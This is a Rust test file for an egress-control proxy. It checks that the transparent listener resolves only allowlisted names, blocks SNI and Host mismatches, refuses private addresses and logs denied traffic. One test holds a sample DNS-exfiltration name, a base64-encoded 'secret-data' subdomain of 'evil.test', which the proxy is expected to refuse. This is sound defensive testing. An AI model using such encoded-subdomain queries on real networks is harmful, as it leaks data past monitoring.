//! The transparent path over real loopback sockets: the resolver answers only names with
//! a transparent listener and forwards nothing; a transparent connection is checked
//! like a CONNECT tunnel to the listener's name and port.

mod common;
use common::{rule, IO_TIMEOUT, UPSTREAM_IP};

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::sync::mpsc;
use std::thread;
use std::time::Duration;

use airlock_egress::{
    reason, sni, start_proxy_on, ConnectionRecord, Decision, DestinationRule, EgressConfig,
    EgressError, ProxyHandle, ProxyListeners, TransparentListener,
};

fn config() -> EgressConfig {
    let mut resolve = BTreeMap::new();
    resolve.insert("api.test".to_string(), IpAddr::V4(UPSTREAM_IP));
    resolve.insert("lo.test".to_string(), "127.0.0.1".parse().unwrap());
    EgressConfig {
        resolve,
        exempt_cidrs: vec!["127.0.0.2/32".parse().unwrap()],
        ..EgressConfig::default()
    }
}

/// A proxy whose transparent listener for `host` sits on `ip:port` of this host (127/8
/// is local here too), with its resolver on an ephemeral UDP port.
struct Transparent {
    proxy: ProxyHandle,
    dns: SocketAddr,
    listener: SocketAddr,
}

fn start(
    config: EgressConfig,
    rules: Vec<DestinationRule>,
    host: &str,
    ip: Ipv4Addr,
    port: u16,
) -> Transparent {
    let listener = TcpListener::bind((ip, port)).unwrap();
    let listener_addr = listener.local_addr().unwrap();
    let dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    let dns_addr = dns.local_addr().unwrap();
    let listeners = ProxyListeners {
        http: TcpListener::bind("127.0.0.1:0").unwrap(),
        socks: None,
        dns: Some(dns),
        transparent: vec![TransparentListener {
            host: host.into(),
            listener,
        }],
    };
    Transparent {
        proxy: start_proxy_on(config, rules, listeners).unwrap(),
        dns: dns_addr,
        listener: listener_addr,
    }
}

/// A free port on `ip` (the upstream and the transparent listener use the same port
/// number, as in a cell where both are the allowlisted port).
fn free_port_pair(ip: Ipv4Addr) -> (TcpListener, u16) {
    loop {
        let upstream = TcpListener::bind((UPSTREAM_IP, 0)).unwrap();
        let port = upstream.local_addr().unwrap().port();
        if TcpListener::bind((ip, port)).is_ok() {
            return (upstream, port);
        }
    }
}

/// One-shot HTTP origin on `listener`; reports the request head it received.
fn http_origin(listener: TcpListener) -> mpsc::Receiver<String> {
    let (tx, rx) = mpsc::channel();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut buf = Vec::new();
            let mut chunk = [0u8; 4096];
            while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                match stream.read(&mut chunk) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => buf.extend_from_slice(&chunk[..n]),
                }
            }
            // The proxy connects before it has checked the first bytes: a connection
            // that closes without any is no request.
            if buf.is_empty() {
                continue;
            }
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nhi\n");
            let _ = tx.send(String::from_utf8_lossy(&buf).into_owned());
        }
    });
    rx
}

fn connect(addr: SocketAddr) -> TcpStream {
    let s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(IO_TIMEOUT)).unwrap();
    s
}

fn query(name: &str, qtype: u16) -> Vec<u8> {
    let mut q = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.extend_from_slice(&[0, (qtype >> 8) as u8, qtype as u8, 0, 1]);
    q
}

fn ask(dns: SocketAddr, packet: &[u8]) -> Vec<u8> {
    let socket = UdpSocket::bind("127.0.0.1:0").unwrap();
    socket.set_read_timeout(Some(IO_TIMEOUT)).unwrap();
    socket.send_to(packet, dns).unwrap();
    let mut buf = [0u8; 1024];
    let (n, _) = socket.recv_from(&mut buf).unwrap();
    buf[..n].to_vec()
}

fn rcode(reply: &[u8]) -> u8 {
    reply[3] & 0x0f
}

fn only(records: &[ConnectionRecord]) -> &ConnectionRecord {
    assert_eq!(records.len(), 1, "{records:#?}");
    &records[0]
}

#[test]
fn resolver_answers_the_transparent_address_and_the_connection_reaches_the_upstream() {
    let ip = Ipv4Addr::new(127, 100, 0, 1);
    let (upstream, port) = free_port_pair(ip);
    let heads = http_origin(upstream);
    let t = start(
        config(),
        vec![rule("api.test", &[port])],
        "api.test",
        ip,
        port,
    );

    let reply = ask(t.dns, &query("api.test", 1));
    assert_eq!(rcode(&reply), 0);
    assert_eq!(
        &reply[reply.len() - 4..],
        &ip.octets(),
        "the listener's address"
    );

    let mut s = connect(t.listener);
    write!(s, "GET /x HTTP/1.1\r\nHost: api.test:{port}\r\n\r\n").unwrap();
    let mut response = [0u8; 64];
    let n = s.read(&mut response).unwrap();
    assert!(response[..n].starts_with(b"HTTP/1.1 200"));
    assert!(heads
        .recv_timeout(IO_TIMEOUT)
        .unwrap()
        .starts_with("GET /x"));
    drop(s);
    let records = t.proxy.shutdown();
    let r = only(&records);
    assert_eq!(r.protocol, "transparent");
    assert_eq!((r.host.as_str(), r.port), ("api.test", port));
    assert_eq!(r.decision, Decision::Allowed);
    assert_eq!(r.address, Some(SocketAddr::new(UPSTREAM_IP.into(), port)));
}

#[test]
fn resolver_refuses_other_names_records_them_and_forwards_nothing() {
    // An upstream resolver that would see any forwarded query.
    let upstream_dns = UdpSocket::bind("127.0.0.1:0").unwrap();
    upstream_dns
        .set_read_timeout(Some(Duration::from_millis(300)))
        .unwrap();
    let config = EgressConfig {
        upstream_resolvers: vec![upstream_dns.local_addr().unwrap()],
        ..config()
    };
    let ip = Ipv4Addr::new(127, 100, 0, 2);
    let (_, port) = free_port_pair(ip);
    let t = start(
        config,
        vec![rule("api.test", &[port])],
        "api.test",
        ip,
        port,
    );
    let exfil = "c2VjcmV0LWRhdGE.evil.test";
    for name in ["evil.test", exfil, "sub.api.test"] {
        let reply = ask(t.dns, &query(name, 1));
        assert_eq!(rcode(&reply), 3, "NXDOMAIN for {name}");
        assert_eq!(&reply[6..8], &[0, 0], "no answer for {name}");
    }
    let mut buf = [0u8; 512];
    assert!(
        upstream_dns.recv_from(&mut buf).is_err(),
        "a query reached the upstream resolver"
    );
    let records = t.proxy.shutdown();
    let hosts: Vec<&str> = records.iter().map(|r| r.host.as_str()).collect();
    assert_eq!(
        hosts,
        ["evil.test", &exfil.to_ascii_lowercase(), "sub.api.test"]
    );
    for r in &records {
        assert_eq!((r.protocol, r.port), ("dns", 53));
        assert_eq!(r.decision, Decision::Denied);
        assert_eq!(r.reason, Some(reason::DNS_REFUSED));
    }
}

#[test]
fn transparent_tls_for_another_name_is_cut_as_sni_mismatch() {
    let ip = Ipv4Addr::new(127, 100, 0, 3);
    let (upstream, port) = free_port_pair(ip);
    let heads = http_origin(upstream);
    let t = start(
        config(),
        vec![rule("api.test", &[port])],
        "api.test",
        ip,
        port,
    );
    let mut s = connect(t.listener);
    s.write_all(&sni::build_client_hello(Some("evil.test")))
        .unwrap();
    let mut buf = [0u8; 16];
    assert!(
        matches!(s.read(&mut buf), Ok(0) | Err(_)),
        "the tunnel is closed"
    );
    let records = t.proxy.shutdown();
    let r = only(&records);
    assert_eq!(r.protocol, "transparent");
    assert_eq!(r.reason, Some(reason::SNI_MISMATCH));
    assert_eq!((r.decision, r.bytes_up), (Decision::Denied, 0));
    assert!(heads.try_recv().is_err(), "the upstream got the request");
}

#[test]
fn transparent_plain_http_for_another_host_is_refused_as_host_mismatch() {
    let ip = Ipv4Addr::new(127, 100, 0, 4);
    let (upstream, port) = free_port_pair(ip);
    let heads = http_origin(upstream);
    let t = start(
        config(),
        vec![rule("api.test", &[port])],
        "api.test",
        ip,
        port,
    );
    let mut s = connect(t.listener);
    write!(s, "GET / HTTP/1.1\r\nHost: evil.test:{port}\r\n\r\n").unwrap();
    let mut response = Vec::new();
    let _ = s.read_to_end(&mut response);
    let response = String::from_utf8_lossy(&response);
    assert!(response.starts_with("HTTP/1.1 403"), "{response}");
    assert!(response.contains(reason::HOST_MISMATCH), "{response}");
    let records = t.proxy.shutdown();
    let r = only(&records);
    assert_eq!(r.reason, Some(reason::HOST_MISMATCH));
    assert_eq!((r.decision, r.bytes_up), (Decision::Denied, 0));
    assert!(heads.try_recv().is_err(), "the upstream got the request");
}

#[test]
fn transparent_connection_to_a_private_address_is_refused_by_the_address_rule() {
    let ip = Ipv4Addr::new(127, 100, 0, 5);
    let (_, port) = free_port_pair(ip);
    let t = start(
        config(),
        vec![rule("lo.test", &[port])],
        "lo.test",
        ip,
        port,
    );
    let mut s = connect(t.listener);
    let _ = s.write_all(&sni::build_client_hello(Some("lo.test")));
    let mut buf = [0u8; 16];
    assert!(matches!(s.read(&mut buf), Ok(0) | Err(_)));
    let records = t.proxy.shutdown();
    let r = only(&records);
    assert_eq!(r.protocol, "transparent");
    assert_eq!(r.reason, Some(reason::PRIVATE_ADDRESS));
}

#[test]
fn a_transparent_listener_for_a_name_not_allowlisted_refuses_the_start() {
    let listeners = ProxyListeners {
        http: TcpListener::bind("127.0.0.1:0").unwrap(),
        socks: None,
        dns: None,
        transparent: vec![TransparentListener {
            host: "evil.test".into(),
            listener: TcpListener::bind("127.100.0.6:0").unwrap(),
        }],
    };
    let started = start_proxy_on(config(), vec![rule("api.test", &[443])], listeners);
    assert!(matches!(started, Err(EgressError::Transparent { .. })));
}
